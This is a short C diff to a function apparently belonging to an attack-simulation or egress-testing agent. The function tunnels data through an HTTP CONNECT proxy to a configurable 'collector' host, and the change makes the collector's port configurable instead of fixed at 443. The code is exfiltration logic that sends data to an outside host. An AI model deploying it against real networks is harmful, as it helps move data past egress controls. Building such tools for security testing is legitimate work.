@@ -162,8 +162,9 @@ void attack_exfil_proxy(const struct orders *o, json_t *report)
         free(data);
         return;
     }
-    char *req = xasprintf("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n", o->collector_domain,
-                          o->collector_domain);
+    int port = o->collector_port > 0 ? o->collector_port : 443;
+    char *req = xasprintf("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n", o->collector_domain,
+                          port, o->collector_domain, port);
     int rc = write_all(fd, req, strlen(req));
     free(req);
     char head[4096];
@@ -193,7 +194,7 @@ void attack_exfil_proxy(const struct orders *o, json_t *report)
         json_object_set_new(report, "result", json_string("failed"));
         json_object_set_new(
             report, "detail",
-            json_sprintf("CONNECT %s:443 through %s: HTTP %d%s%s%s", o->collector_domain, hp,
+            json_sprintf("CONNECT %s:%d through %s: HTTP %d%s%s%s", o->collector_domain, port, hp,
                          status, why ? " (X-Proxy-Error: " : "", why ? why : "", why ? ")" : ""));
         close(fd);
         free(data);
